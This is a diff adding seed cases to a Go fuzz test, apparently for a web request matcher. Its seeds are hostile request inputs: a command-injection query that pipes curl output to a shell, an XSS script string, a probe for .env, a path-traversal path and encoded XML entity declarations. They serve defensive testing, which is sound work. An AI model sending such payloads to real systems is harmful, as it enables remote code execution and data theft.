@@ -22,6 +22,13 @@ func FuzzMatch(f *testing.F) {
 		{"GET", "/backup.zip", "q=%3Cscript%3Ealert(1)%3C/script%3E&u=http://x/s.txt?", "", ""},
 		{"", "", "&&&===&%", "\x00", "%"},
 		{"GET", "/.env", "a=$(curl+x|sh)&b=;id&c=`id`", "", ""},
+		// seventh session: the empty path parameter, source copies and
+		// data extensions by shape, an entity declaration escaped
+		{"GET", "/api;/x&nbsp;/;/a;b=c/..;/", "", "", ""},
+		{"GET", "/Copy%20of%20x.php", "", "", ""},
+		{"GET", "/~", "", "", ""},
+		{"GET", "/a/.properties", "", "", ""},
+		{"GET", "/x.php-", "q=%2BADw-!ENTITY+x+SYSTEM&r=%5Cu003c!DOCTYPE+a+%5B&s=%26amp%3Blt%3B!ENTITY", "", ""},
 	}
 	for _, s := range seeds {
 		f.Add(s[0], s[1], s[2], s[3], s[4])
